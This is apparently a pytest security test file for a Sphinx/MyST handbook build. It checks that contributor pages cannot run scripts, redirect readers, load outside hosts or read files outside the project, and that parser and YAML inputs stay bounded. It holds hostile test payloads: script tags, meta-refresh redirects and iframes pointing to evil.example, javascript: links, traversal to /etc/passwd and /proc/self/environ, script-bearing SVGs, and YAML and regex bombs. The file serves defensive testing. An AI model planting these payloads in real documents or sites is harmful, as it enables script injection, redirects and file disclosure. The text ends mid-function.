"""A page is data: whatever a contributor writes, nothing runs, leads away or comes from outside.

Each way in stands in a table, is a page of one hostile project, and is tried three times: by the
check, in the built page, and in a browser.
"""

from __future__ import annotations

import gzip
import json
import re
import socket
import subprocess
import sys
import time
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import date
from hashlib import md5, sha256
from pathlib import Path
from shutil import copytree
from typing import TYPE_CHECKING
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from docutils.languages import get_language
from docutils.parsers.rst import directives
from docutils.parsers.rst.directives import _directive_registry
from docutils.parsers.rst.languages import get_language as get_rst_language
from docutils.parsers.rst.roles import _role_registry, _roles
from docutils.utils import new_document
from icalendar import Calendar
from sphinx.errors import SphinxError

from handbook.catalogueupdate import overrides
from handbook.cli import HandbookError
from handbook.datecheck import judge
from handbook.linkcheck import address, collect
from handbook.model import safety
from handbook.rules.exceptions import FIRM
from handbook.sphinxext import policy
from support import ROOT
from support.browser import open_page, served
from support.projects import EXTENSIONS, Built, Project

if TYPE_CHECKING:
    from playwright.sync_api import Browser

MakeProject = Callable[[str | Mapping[str, str]], Project]
CONF = {"extensions": EXTENSIONS, "html_theme": "furo"}
RUN = "<script>document.title = 'ran'</script>"
#: The same without a space, for places that end at one.
REDIRECT = '<meta/http-equiv="refresh"/content="0;url=https://evil.example/">'
COVER = "position: fixed; inset: 0; background: white"
#: A class of the theme that covers a part of the page.
FRAME = "sidebar-drawer"
MILESTONE = """\
:::{{milestone}} {title}
:name: {name}
:date: 2019-01
:strands: club
:sources: cnis2019
:place: {place}
{body}
:::"""


def milestone(name: str, title: str = "It", place: str = "here", body: str = "x") -> str:
    return MILESTONE.format(name=name, title=title, place=place, body=body)


@dataclass(frozen=True)
class Way:
    """``text`` is typed into a page with the ``front`` matter; ``code`` is that of the finding, in
    the build (``built``, if it is another) and in the check (``checked``, if it is another).
    """

    text: str
    code: str
    checked: str | None = None
    front: str = ""
    built: str | None = None


#: Ways of getting markup, addresses and files that run to a browser.
MARKUP = {
    "a block of HTML": Way(RUN, "P017"),
    "HTML in a line": Way(f"Some text {RUN} and more.", "P017"),
    "HTML after a comment": Way(f"<!-- a note -->{RUN}", "P017"),
    "HTML in a quotation": Way(f"> - {RUN}", "P017"),
    "HTML in a table": Way(f"| a |\n|---|\n| {RUN} |", "P017"),
    "HTML in a note": Way(f":::{{note}}\n{RUN}\n:::", "P017"),
    "HTML in a caption": Way(f"```{{code-block}} python\n:caption: a {RUN}\nx\n```", "P017"),
    "HTML in literal words": Way(f"```{{parsed-literal}}\nx {RUN}\n```", "P017"),
    "HTML in a glossary": Way(f":::{{glossary}}\nA {RUN}\n  its definition\n:::", "P017"),
    "HTML for one builder": Way(f"::::{{only}} html\n{RUN}\n::::", "P017"),
    "HTML in an included file": Way("```{include} part.txt\n```", "P017"),
    "raw": Way(f"```{{raw}} html\n{RUN}\n```", "P017"),
    "raw in capitals": Way(f"```{{Raw}} html\n{RUN}\n```", "P017"),
    "eval-rst": Way(f"```{{eval-rst}}\n.. raw:: html\n\n   {RUN}\n```", "P017"),
    "a raw role": Way("```{role} x(raw)\n:format: html\n```\n\n{x}`" + RUN + "`", "P017"),
    "an icon": Way('{octicon}`report;1em;x">' + RUN.replace(" ", "") + "`", "P017"),
    "an icon in a heading": Way(
        '## H {octicon}`report;1em;x">' + RUN.replace(" ", "") + "`", "P017"
    ),
    "an icon that redirects": Way('{octicon}`report;1em;x">' + REDIRECT + "`", "P017"),
    "another icon": Way('{material-round}`flight;1em;x">' + REDIRECT + "`", "P017"),
    "redirect": Way('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "P017"),
    "meta": Way("```{meta}\n:http-equiv=refresh: 0; url=https://evil.example/\n```", "P017"),
    "meta in the front matter": Way(
        "x",
        "P015",
        front='myst:\n  html_meta:\n    "http-equiv=refresh": "0; url=https://evil.example/"\n',
    ),
    "meta at the top of the front matter": Way(
        "x", "P015", front='html_meta:\n  "http-equiv=refresh": "0; url=https://evil.example/"\n'
    ),
    "an extension in the front matter": Way(
        "~~x~~ {{ a }}",
        "P015",
        front=f'myst:\n  enable_extensions: [substitution, strikethrough]\n  substitutions: {{a: "{RUN}"}}\n',
    ),
    "the end of the frame": Way("</article></div></main>", "P017"),
    "the end of the frame in a line": Way("Some text </article></div></main> more.", "P017"),
    "style": Way("<style>body { display: none }</style>", "P017"),
    "a style attribute": Way(
        '<p style="&lt;/style&gt;' + RUN.replace("<", "&lt;") + '">x</p>', "P017"
    ),
    "iframe": Way('<iframe src="https://evil.example/"></iframe>', "P017"),
    "a title": Way(f"## A heading {RUN}", "P017"),
    "a milestone's title": Way(milestone("title-2019", title=f"It {RUN}"), "P017"),
    "a milestone's place": Way(milestone("place-2019", place=f"a {RUN}"), "P017"),
    "a milestone's body": Way(milestone("body-2019", body=RUN), "P017"),
    "javascript": Way("[x](javascript:alert(1))", "", "P019"),
    "javascript in letters": Way("[x](<java&#115;cript:alert(1)>)", "", "P019"),
    "data": Way("[x](<data:text/html,hello>)", "", "P019"),
    "another scheme": Way("[x](<vbscript:x>)", "", "P019"),
    "a button": Way("```{button-link} javascript:alert(1)\n```", "P019"),
    "a badge": Way("{bdg-link-primary}`x <javascript:alert(1)>`", "P019"),
    "a card": Way(":::{card} T\n:link: javascript:alert(1)\nx\n:::", "P019"),
    "a card with options in YAML": Way(
        ":::{card} T\n---\nlink: javascript:alert(1)\n---\nx\n:::", "P019"
    ),
    "an author's picture": Way(
        ":::{article-info}\n:avatar: picture.png\n:avatar-link: javascript:alert(1)\n:author: x\n:::",
        "P019",
    ),
    "a picture's target": Way("```{image} picture.png\n:target: javascript:alert(1)\n```", "P019"),
    "a toctree": Way("```{toctree}\nx <javascript://%0aalert(1)>\n```", "P019"),
    "a download": Way("{download}`x <javascript://%0aalert(1)>`", "P019"),
    "a source": Way("{cite:p}`evil`", "P019", "L002"),
    "a picture from another host": Way("![x](https://evil.example/x.png)", "P018"),
    "a figure from another host": Way("```{figure} //evil.example/x.png\nx\n```", "P018"),
    "a picture from another host, with a target": Way(
        "```{image} https://evil.example/x.png\n:target: https://example.org/\n```", "P018"
    ),
    "SVG": Way("![x](evil.svg)", "P020"),
    "SVG of any kind": Way("![x](evil.*)", "P020"),
    "SVG of the language": Way("![x](plain.svg)", "P020"),
    "SVG packed": Way("![x](packed.svgz)", "P020"),
    "SVG within the page": Way("```{image} good.svg\n:loading: embed\n```", "P017"),
    "SVG for download": Way("{download}`x <evil.svg>`", "P020"),
    "the words for a film": Way(
        "![&lt;script&gt;document.title='ran'&lt;/script&gt;](x.mp4)", "P020"
    ),
    "HTML for download": Way("[x](evil.html)", "P020"),
    "HTML by a role": Way("{download}`x <evil.html>`", "P020"),
    "HTML by another name": Way("[x](evil.bib)", "P020"),
    "HTML by another name and a role": Way("{download}`x <evil.yaml>`", "P020"),
    "HTML as a picture": Way("![x](evil.png)", "P020"),
    "another parser": Way("```{include} part.txt\n:parser: antigravity\n```", "P017"),
    "another encoding": Way("```{include} utf7.txt\n:encoding: utf-7\n```", "P017"),
    "code in another encoding": Way("```{literalinclude} utf7.txt\n:encoding: utf-7\n```", "P017"),
    "a table in another encoding": Way(
        "```{csv-table} T\n:file: utf7.txt\n:encoding: utf-7\n```", "P017"
    ),
    "a style": Way(f"```{{div}}\n:style: {COVER}\nx\n```", "P017"),
    "a style in an attribute": Way(f'{{style="{COVER}"}}\n```{{div}}\nx\n```', "P017"),
    "a class": Way(f"{{.{FRAME}}}\nx", "P023"),
    "two classes": Way(f'{{class="hb-doors {FRAME}"}}\nx', "P023"),
    "a class in a list": Way(f"- {{.{FRAME}}}\n  x", "P023"),
    "a class in a numbered list": Way(f"1. {{.{FRAME}}}\n   x", "P023"),
    "a class in a quotation": Way(f"> {{.{FRAME}}}\n> x", "P023"),
    "a class in a definition": Way(f"Term\n: {{.{FRAME}}}\n  x", "P023"),
    "a class in a footnote": Way(f"x[^1]\n\n[^1]: {{.{FRAME}}}\n    x", "P023"),
    "a class of a link": Way(f'[x](https://example.org/){{title="a" .{FRAME}}}', "P023"),
    "a class of words": Way(f"*x*{{.{FRAME}}}", "P023"),
    "a class of a note": Way(f":::{{note}}\n:class: {FRAME}\nx\n:::", "P023"),
    "a class of a note in YAML": Way(f":::{{note}}\n---\nclass: {FRAME}\n---\nx\n:::", "P023"),
    "a class of a note in an attribute": Way(f"{{.{FRAME}}}\n:::{{note}}\nx\n:::", "P023"),
    "a class of all that follows": Way(f"```{{class}} {FRAME}\n```\n\nx", "P023"),
    "a class of a container": Way(f":::{{container}} {FRAME}\nx\n:::", "P023"),
    "a host without a scheme": Way("```{button-link} //evil.example/\nx\n```", "P019"),
    "a host with a backslash": Way("```{button-link} /\\\\evil.example/\nx\n```", "P019"),
    "a card to a host": Way(":::{card} T\n:link: //evil.example/\nx\n:::", "P019"),
    "a picture's host": Way("```{image} picture.png\n:target: //evil.example/\n```", "P019"),
    "a badge to a host": Way("{bdg-link-primary}`x <//evil.example/>`", "P019"),
    "a hidden character": Way("A &#x202e;word", "P022"),
    "a hidden character with a name": Way("A &rlm;word", "P022"),
    "a hidden character in an option": Way(':::{note}\n:name: "a\\u202eb"\nx\n:::', "P022"),
    "a hidden character in the front matter": Way("x", "P002", front='search: "a\\u202eb"\n'),
}
#: Ways of reading a file that is not the handbook's, or of asking another host.
OUTSIDE = {
    "```{include} ../secret.txt\n```": "P018",
    "```{include} /../secret.txt\n```": "P018",
    "```{include} <../../../../../../../../../../../etc/passwd>\n```": "P018",
    "```{include} \u00a0<../../../../../../../../../../../etc/passwd>\n```": "P018",
    "```{include} /proc/self/environ\n```": "",
    "```{literalinclude} ../secret.txt\n```": "P018",
    "```{literalinclude} index.md\n:diff: ../secret.txt\n```": "P018",
    "```{csv-table} T\n:file: ../secret.csv\n```": "P018",
    "```{Csv-Table} T\n:file: ../secret.csv\n```": "P018",
    "```{csv-table} T\n---\nfile: ../secret.csv\n---\n```": "P018",
    "```{csv-table} T\n:url: http://evil.example/table.csv\n```": "P018",
    "```{csv-table} T\n---\nurl: http://evil.example/table.csv\n---\n```": "P018",
    "```{raw} html\n:file: ../secret.txt\n```": "P017",
    "```{raw} html\n:url: http://evil.example/table.csv\n```": "P017",
    "{download}`x <../secret.txt>`": "P018",
    "[x](../secret.txt)": "P018",
    "[x](../conf.txt)": "P018",
    "[x](path:../secret.txt)": "P018",
    "![x](../secret.png)": "P018",
    "![x](/../secret.png)": "P018",
    "```{figure} ../secret.png\nx\n```": "P018",
    "```{figure} ../secret.png\n:figwidth: image\nx\n```": "P018",
    "```{image} ../secret.png\n```": "P018",
    ":::{card} T\n:img-top: ../secret.png\nx\n:::": "P018",
    ":::{article-info}\n:avatar: ../secret.png\n:author: x\n:::": "P018",
}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
EVIL_SOURCE = """
@online{evil,
  title = {Evil},
  publisher = {Nobody},
  date = {2019},
  url = {javascript:alert(1)},
  urldate = {2026-11},
  langid = {en},
  keywords = {press},
}
"""
#: Needs its own page: MyST renders it before any node is seen.
TEMPLATE = Way(
    "{{ env.srcdir.parent.joinpath('secret.txt').read_text() }}",
    "P015",
    front="myst:\n  enable_extensions: [substitution]\n",
)
WAYS: dict[str, Way] = {
    **MARKUP,
    **{text: Way(text, code) for text, code in OUTSIDE.items()},
    "a template": TEMPLATE,
}
PAGES = {way: f"way-{number:03}" for number, way in enumerate(WAYS)}


@dataclass(frozen=True)
class Hostile:
    """A project in which every way is a page: what the builds made, and what the check said."""

    html: Built
    epub: Built
    asked: list[str]
    found: list[str]


def plant(project: Project) -> None:
    (project.docs / "evil.html").write_text(RUN)
    for name in ("evil.bib", "evil.yaml", "evil.png"):
        (project.docs / name).write_text(f"\ufeff\n {RUN}", "utf-8")
    (project.docs / "evil.svg").write_text(SVG.format(RUN))
    (project.docs / "good.svg").write_text(SVG.format("<style>body{display:none}</style>"))
    (project.docs / "plain.svg").write_text(SVG.format(""))
    (project.docs / "plain.en.svg").write_text(SVG.format(RUN))
    (project.docs / "packed.svgz").write_bytes(gzip.compress(SVG.format(RUN).encode()))
    (project.docs / "part.txt").write_text(RUN)
    (project.docs / "utf7.txt").write_text(RUN.replace("<", "+ADw-").replace(">", "+AD4-"))
    (project.docs / "x.mp4").write_bytes(b"x")
    (project.docs / "picture.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    for name in ("secret.txt", "secret.csv", "secret.png"):
        (project.root / name).write_text("SECRET-268,b\n", "utf-8")
    with (project.references / "sources.bib").open("a") as file:
        file.write(EVIL_SOURCE)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    pages = {
        f"{PAGES[name]}.md": f'---\nreviewed: "2026-11-23"\norphan: true\n{way.front}---\n# A page\n\n{way.text}\n'
        for name, way in WAYS.items()
    }
    project = Project(
        tmp_path_factory.mktemp("hostile"),
        {"index.md": "# Home\n\n:::{bibliography}\n:::\n", **pages},
    )
    plant(project)
    asked: list[str] = []

    def ask(_socket: socket.socket, target: object) -> None:
        asked.append(str(target))
        raise OSError("no network in a build")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", ask)
        patch.setattr(socket, "getaddrinfo", lambda host, *_rest, **_more: ask(None, host))  # type: ignore[arg-type]
        built = [project.build(builder, **CONF) for builder in ("html", "epub")]
    report = judge.check(project.root, date(2026, 11, 23))
    links = [
        f"{link.place.path}: L002"
        for link in collect.collect(project.root)
        if address.read(link.text).kind is address.Kind.REFUSED
    ]
    return Hostile(*built, asked, [*map(str, report.findings), *links])


@pytest.mark.parametrize("name", WAYS)
def test_the_check_sees_every_way(hostile: Hostile, name: str) -> None:
    way = WAYS[name]
    wanted = way.code if way.checked is None else way.checked
    place = "references/sources.bib" if name == "a source" else f"docs/{PAGES[name]}.md"
    if "part.txt" in way.text and "parser" not in way.text:
        place = "docs/part.txt"
    if name == "SVG of the language":
        place = "docs/plain.en.svg"
    codes = [one.split()[1] for one in hostile.found if one.startswith(f"{place}:")]
    assert not wanted or wanted in codes


@pytest.mark.parametrize("name", [name for name, way in WAYS.items() if way.code])
def test_the_build_says_so(hostile: Hostile, name: str) -> None:
    way = WAYS[name]
    page = "part.txt" if name == "HTML in an included file" else f"{PAGES[name]}.md"
    said = [one for one in hostile.html.warnings if one.startswith(f"docs/{page}:")]
    if name == "another parser":
        assert any("parser" in one for one in said)
    else:
        assert any(f" {way.code} " in one for one in said), said


@pytest.mark.parametrize("builder", ["html", "epub"])
@pytest.mark.parametrize("name", WAYS)
def test_nothing_hostile_is_in_the_page(hostile: Hostile, builder: str, name: str) -> None:
    end = "html" if builder == "html" else "xhtml"
    page = getattr(hostile, builder).soup(f"{PAGES[name]}.{end}")
    scripts = [one for one in page("script") if "document.title" in one.get_text()]
    assert [one for one in scripts if one.get("type") != "application/ld+json"] == []
    assert [one for one in page("style") if "display: none }" in one.get_text()] == []
    assert "fixed" not in "".join(map(str, (*page("style"), *page.select("[style]"))))
    for selector in (
        "iframe, object, embed, base, video, [onclick], [onload]",
        '[http-equiv="refresh"]',
        '[href^="javascript" i], [href^="data:" i], [href^="vbscript" i]',
        '[src*="evil"], [href*="/evil."], [src^="//"], [href^="//"]',
        f"article .{FRAME}, body > .{FRAME}",
    ):
        assert page.select(selector) == []
    if builder == "html":
        assert len(page.select("main, [role=main]")) <= 2
        assert page.select_one(".page > .main > .content > .article-container > article")


@pytest.mark.parametrize("builder", ["html", "epub"])
def test_no_file_from_outside_and_none_that_runs_is_published(
    hostile: Hostile, builder: str
) -> None:
    for path in getattr(hostile, builder).out.rglob("*"):
        if path.is_file() and path.name != ".buildinfo":
            content = path.read_bytes()
            assert b"SECRET-268" not in content, path
            assert b"root:x:0" not in content, path
            if path.suffix in {".svg", ".html", ".mp4"} and "_static" not in path.parts:
                assert path.name == "plain.svg" or path.suffix == ".html", path
                assert RUN.encode() not in content, path


def test_a_build_asks_nobody(hostile: Hostile) -> None:
    assert hostile.asked == []


@pytest.mark.parametrize("builder", ["html", "epub"])
def test_nothing_of_a_page_runs_in_a_browser(
    hostile: Hostile, browser: Browser, builder: str
) -> None:
    end = "html" if builder == "html" else "xhtml"
    context = browser.new_context()
    page = context.new_page()
    context.route(lambda url: "127.0.0.1" not in url, lambda route: route.fulfill(body="evil"))
    with served(getattr(hostile, builder).out) as host:
        for name in WAYS:
            page.goto(f"{host}/{PAGES[name]}.{end}")
            page.wait_for_timeout(30)
            assert page.url == f"{host}/{PAGES[name]}.{end}", name
            assert page.title() != "ran", name
    context.close()


# -- nothing is forgotten --

#: How docutils, Sphinx, MyST and sphinx-design read options that are no text.
CONVERTERS = re.compile(
    r"flag|\w*int|int_or_nothing|class_option|encoding|percentage|length_\w+|single_char_\w+|\w*align"
    r"|(Figure|Image|Contents)\.\w+|make_choice.*|value_or.*|(gutter|margin|padding|item_columns)_option"
    r"|_collapsible_arg|figwidth_value|(BibliographyDirective|PyModule|Rubric)\.<lambda>"
)
#: Options that are text, and no name of a file and no address.
TEXT = frozenset(
    """after alt annotation append author avatar-alt before body canonical caption code committee country date
    default dedent emphasize-lines end-at end-before enumtype family figname filter first footer given
    header img-alt into keyprefix kind label labelprefix language lines link-alt list module name not number option overview place
    prefix prepend pyobject read-time role standard relative-docs short sources start-after start-at status strands style
    subtitle suffix sync sync-group title tooltip type value verdict year""".split()  # noqa: SIM905
)
#: Directives whose argument is text.
TEXT_ARGUMENT = frozenset(
    """admonition aside bibliography button-ref card card-carousel centered class code code-block
    codeauthor container contents cssclass csv-table default-domain default-role deprecated describe diagram
    div dropdown events fields figure-md grid grid-item-card highlight index length-of list-table math
    milestone moduleauthor object only restructuredtext-test-directive rst-class rubric sectionauthor
    sidebar sourcecode sources standard step tab-item table tabularcolumns title topic unicode
    version-added version-changed version-deprecated version-removed versionadded versionchanged
    versionremoved""".split()  # noqa: SIM905
)


# One for each test: where a build ends, it forgets the directives of all others too.
@pytest.fixture
def registered(tmp_path: Path) -> Iterator[Project]:
    """A project of all extensions: while it lives, so do their directives and roles."""
    project = Project(tmp_path, {"index.md": "# Home\n"})
    from sphinx.testing.util import SphinxTestApp

    app = SphinxTestApp(
        "html", srcdir=project.docs, builddir=project.root / "build", confoverrides=CONF
    )
    yield project
    app.cleanup()


def classes() -> Iterator[tuple[str, type]]:
    english = get_language("en")
    # Sphinx puts another table in the place of this one: who imports it by name may hold an old one.
    names = {*directives._directives, *_directive_registry}
    assert {"milestone", "acks", "grid"} <= names
    for name in sorted(names):
        found = directives.directive(name, english, new_document("x"))[0]
        assert found, name
        yield name, found


def test_no_option_that_takes_a_file_or_an_address_is_forgotten(registered: Project) -> None:
    known = (
        safety.FILE_OPTIONS | safety.ADDRESS_OPTIONS | safety.NETWORK_OPTIONS | safety.RAW_OPTIONS
    )
    unknown = {
        (name, option)
        for name, directive in classes()
        for option, convert in (getattr(directive, "option_spec", None) or {}).items()
        if not CONVERTERS.fullmatch(getattr(convert, "__qualname__", ""))
        and option not in known | TEXT
    }
    assert unknown == set()


def test_no_argument_that_takes_a_file_or_an_address_is_forgotten(registered: Project) -> None:
    known = safety.FILE_ARGUMENT | safety.RAW_DIRECTIVES | {"button-link"}
    unknown = {
        name
        for name, directive in classes()
        if getattr(directive, "required_arguments", 0) + getattr(directive, "optional_arguments", 0)
        and name not in known | TEXT_ARGUMENT
    }
    assert unknown == set()


@pytest.mark.parametrize("language", ["zh_CN", "ja", "de"])
def test_no_other_language_has_a_way_past(
    project: MakeProject, language: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """docutils calls its directives and roles by other names in a page of another language."""
    asked: list[object] = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *_rest, **_more: asked.append(host))
    module = get_rst_language(language.lower().replace("_", "-"))
    english = get_rst_language("en")
    names = [name for name in module.directives if " " not in name]
    names = [name for name in names if name not in english.directives]
    roles = [name for name in module.roles if name not in english.roles and " " not in name]
    assert len(names) > 20
    blocks = [
        f"```{{{name}}} {argument}\n{option}\n```"
        for name in names
        for argument in ("html", "../secret.csv")
        for option in (":file: ../secret.csv", ":url: http://evil.example/x", f"\n{RUN}")
    ]
    words = [f"{{{role}}}`{RUN}`" for role in roles]
    made = project({"index.md": "# Home\n\n" + "\n\n".join([*blocks, *words])})
    plant(made)
    built = made.build(language=language, **CONF)
    assert asked == []
    page = built.text("index.html")
    assert "SECRET-268" not in page
    assert RUN not in page
    said = "\n".join(built.warnings)
    assert [name for name in names if f"there is no directive {name!r}" not in said] == []


HOSTILE_WORDS = ('report;1em;a"><x-hostile>', 'flight;1em;a"><x-hostile>', 'x <a"><x-hostile>')


@pytest.mark.parametrize("raw", [False, True])
def test_no_role_writes_its_words_into_the_page_as_they_stand(
    project: MakeProject, raw: bool
) -> None:
    """With raw markup switched on, icons do: so the test sees what it looks for."""
    made = project({"index.md": "# Home\n"})
    made.build(**CONF)
    roles = sorted(
        {*_roles, *_role_registry, *safety.RAW_ROLES} - {"restructuredtext-unimplemented-role"}
    )
    words = (f"{{{role}}}`{words}`" for role in roles for words in HOSTILE_WORDS)
    made.write("index.md", "# Home\n\n" + "\n\n".join(words))
    page = made.build(**CONF, handbook_raw=raw).soup()
    assert bool(page.select("x-hostile")) is raw


def test_no_directive_writes_its_words_into_the_page_as_they_stand(registered: Project) -> None:
    words = 'a"><x-hostile>'
    # a name that pybtex does not know stops the build; what is no style of ours, the last wall
    stopping = {"bibliography": {"style"}, "div": {"style"}}
    blocks = [
        f"::::{{{name}}} {words}\n" + (f":{one}: {words}\n" if one else "") + f"{words}\n::::"
        for name, directive in classes()
        for one in (None, *(getattr(directive, "option_spec", None) or ()))
        if one not in stopping.get(name, ())
    ]
    registered.write("index.md", "# Home\n\n" + "\n\n".join(blocks))
    page = registered.build(**CONF).soup()
    assert page.select("x-hostile") == []


# -- files --


@pytest.mark.parametrize("name", ["page.md", "_static/x.txt", "picture.png"])
def test_nothing_is_built_while_a_symbolic_link_leads_out(project: MakeProject, name: str) -> None:
    made = project({"index.md": "# Home\n"})
    (made.docs / name).parent.mkdir(exist_ok=True)
    (made.docs / name).symlink_to("/etc/hostname")
    with pytest.raises(SphinxError, match=rf"{name}: P018 a symbolic link"):
        made.build()


def test_a_link_within_the_folder_is_fine(project: MakeProject) -> None:
    made = project({"index.md": "# Home\n\n![x](b.png)\n"})
    (made.docs / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (made.docs / "b.png").symlink_to("a.png")
    assert made.build().warnings == []


def test_only_what_the_check_reads_is_built(tmp_path: Path) -> None:
    """No other markup, and no page in a folder that the check leaves out."""
    made = Project(tmp_path, {"index.md": "# Home\n"})
    for name in ("_hidden/page.md", "club/_hidden/page.md"):
        made.write(name, f"# Hidden\n\n{RUN}\n")
    made.write("page.rst", f":orphan:\n\nHidden\n======\n\n.. raw:: html\n\n   {RUN}\n")
    conf = (ROOT / "docs" / "conf.py").read_text("utf-8")
    settings = dict(re.findall(r"(?m)^(source_suffix|exclude_patterns) = (.+)$", conf))
    with (made.docs / "conf.py").open("a", encoding="utf-8") as file:
        file.writelines(f"\n{name} = {value}\n" for name, value in settings.items())
    built = made.build()
    assert built.warnings == []
    assert [path for path in built.out.rglob("*.html") if "page" in path.name] == []


@pytest.mark.parametrize("folder", ["docs", "references"])
def test_the_check_finds_a_link_out_in_both_folders(tmp_path: Path, folder: str) -> None:
    copytree(ROOT / "tests" / "seeded" / "references", tmp_path / "references")
    (tmp_path / "docs").mkdir()
    (tmp_path / folder / "way.txt").symlink_to("/etc/hostname")
    found = judge.check(tmp_path, date(2026, 11, 23)).findings
    assert f"{folder}/way.txt:1:1: P018 a symbolic link that leads out of its folder" in "\n".join(
        map(str, found)
    )


@pytest.mark.parametrize("names", [("index.md",), ("a.md", "b.md", "index.md")])
def test_a_file_that_includes_itself_is_included_once(
    project: MakeProject, names: tuple[str, ...]
) -> None:
    """``names`` include each other in this order, from the home page on."""
    made = project({"index.md": ""})
    for number, name in enumerate(("index.md", *names[:-1])):
        made.write(name, f"# Page {number}\n\n```{{include}} {names[number]}\n```\n")
    wanted = f"P018 {names[-1]!r} is included within itself"
    assert any(wanted in one for one in made.build().warnings)
    assert wanted in "\n".join(map(str, judge.check(made.root, date(2026, 11, 23)).findings))


@pytest.mark.parametrize("code", sorted(FIRM))
def test_no_page_lets_itself_off(tmp_path: Path, code: str) -> None:
    copytree(ROOT / "tests" / "seeded" / "references", tmp_path / "references")
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "page.md").write_text(
        f"---\nexceptions:\n- {{code: {code}, reason: it is mine, until: '2027-01-01'}}\n---\n# A page\n"
    )
    found = "\n".join(map(str, judge.check(tmp_path, date(2026, 11, 23)).findings))
    assert f"D701 {code} allows no exceptions" in found


# -- time --

#: Texts that cost the parser seconds, or all of Python's stack, and what is said of them.
COSTLY = {
    "^[" * 4900: "P005",
    "[^" * 4900: "P005",
    "[" * 9800: "P005",
    "![" * 4900: "P005",
    "[" * 4900 + "x" + "]" * 4900: "P005",
    "> " + "[" * 9800: "P005",
    "|".join(["a"] * 3000) + "\n" + "|".join(["-"] * 3000) + "\n" + "a|b\n" * 1000: "P005",
    "".join(":" * number + "{note}\n" for number in range(130, 2, -1)): "P006",
    "x" * 30_000: "P005",
}
#: Their like, which are read.
QUICK = (
    *("*" * 9800, "*a **b " * 1400, "`" * 9800, "<" * 9800, "{" * 9800, "- " * 4900, "> " * 4900),
    *("a[b]" * 2450, "[a](" * 2450, "{a}`" * 2450, "<a " * 3200, "&#" * 4900, "`a`{a=" * 1600),
)


@pytest.mark.parametrize("text", [*COSTLY, *QUICK], ids=lambda text: ascii(text[:12]))
def test_no_paragraph_costs_seconds(project: MakeProject, text: str) -> None:
    made = project(
        {"index.md": "# Home\n\n```{toctree}\nslow\n```\n", "slow.md": f"# Slow\n\n{text}\n"}
    )
    begin = time.process_time()
    found = "\n".join(map(str, judge.check(made.root, date(2026, 11, 23)).findings))
    middle = time.process_time()
    built = made.build(extensions=EXTENSIONS)
    assert middle - begin < 5
    assert time.process_time() - middle < 15
    if code := COSTLY.get(text):
        assert re.search(rf"docs/slow\.md:\d+:\d+: {code} ", found)
        assert any(one.startswith("docs/slow.md:") and f" {code} " in one for one in built.warnings)


def test_a_file_in_a_page_is_bound_too(project: MakeProject) -> None:
    made = project({"index.md": "# Home\n\n```{include} part.txt\n```\n"})
    (made.docs / "part.txt").write_text("^[" * 4900, "utf-8")
    assert any("P005" in one for one in made.build().warnings)


#: Three lines that stand for 9 to the power of 12 words.
BOMB = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
BOMB += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]


@pytest.mark.parametrize("as_list", [False, True])
@pytest.mark.parametrize(
    "file",
    [
        "docs/moved.yaml",
        "docs/page.md",
        *(
            path.relative_to(ROOT).as_posix()
            for path in sorted((ROOT / "references").rglob("*.y*ml"))
        ),
    ],
)
def test_no_file_of_yaml_grows(tmp_path: Path, file: str, as_list: bool) -> None:
    copytree(ROOT / "references", tmp_path / "references")
    (tmp_path / "docs").mkdir()
    lines = [line.partition(": ")[2] if as_list else line for line in BOMB]
    text = "\n".join(f"- {line}" if as_list else line for line in lines)
    front = f"---\nexceptions:\n{text}\n---\n# A page\n"
    (tmp_path / file).write_text(front if file.endswith(".md") else text, "utf-8")
    begin = time.process_time()
    if file.endswith("overrides.yaml"):
        with pytest.raises(HandbookError, match="is marked"):
            overrides.read(tmp_path / file)
    else:
        found = "\n".join(map(str, judge.check(tmp_path, date(2026, 11, 23)).findings))
        assert re.search(rf"(?m)^{file}:\d+:\d+: \w+ a value is marked", found)
    assert time.process_time() - begin < 10


NINES = "9" * 4000


@pytest.mark.parametrize(
    ("file", "old", "new", "message"),
    [
        ("iso/extract.yaml", r'(?m)^  deliverables: ".*"', '  deliverables: "9999-12-31"', "D104"),
        ("iso/deliverables.jsonl", r'"id": ?61885', f'"id": {NINES}', "D104"),
        ("iso/deliverables.jsonl", r'"edition": ?1\b', f'"edition": {NINES}', "D104"),
        ("iso/deliverables.jsonl", r'"2016-07-11"', '"9999-12-31"', "D104"),
        ("records/adoptions.yaml", r'date: "20[^"]*"', 'date: "9999-12-31"', "R001"),
        ("records/places.yaml", r"at: \[.*\]", f"at: [{NINES}, 1]", "R001"),
        ("records/places.yaml", r"at: \[.*\]", "at: [.nan, .inf]", "R001"),
        ("records/places.yaml", r"at: \[.*\]", "at: [north, 1]", "R001"),
    ],
)
def test_a_value_beyond_all_measure_is_found(
    tmp_path: Path, file: str, old: str, new: str, message: str
) -> None:
    copytree(ROOT / "references", tmp_path / "references")
    (tmp_path / "docs").mkdir()
    path = tmp_path / "references" / file
    text, count = re.subn(old, new, path.read_text("utf-8"), count=1)
    assert count == 1
    path.write_text(text, "utf-8")
    found = "\n".join(map(str, judge.check(tmp_path, date(2026, 11, 23)).findings))
    assert re.search(rf"(?m)^references/{file}:\d+:\d+: {message} ", found)


@pytest.mark.parametrize(
    "text",
    [
        f"```{{image}} picture.png\n:scale: {NINES}\n```",
        ":::{hlist}\n:columns: 99999999\n- a\n:::",
        f"```{{code-block}} python\n:lineno-start: {NINES}\nx\n```",
    ],
)
def test_a_number_beyond_all_measure_is_refused(project: MakeProject, text: str) -> None:
    made = project({"index.md": f"# Home\n\n{text}\n"})
    plant(made)
    assert any("Y002" in one and "too large a number" in one for one in made.build().warnings)


# -- what is allowed --


def test_formulas_are_mathml(project: MakeProject) -> None:
    built = project(
        {"index.md": "# Home\n\n```{math}\n\\frac{a}{b}\n```\n\n{math}`x^2 \\text{<b>}`\n"}
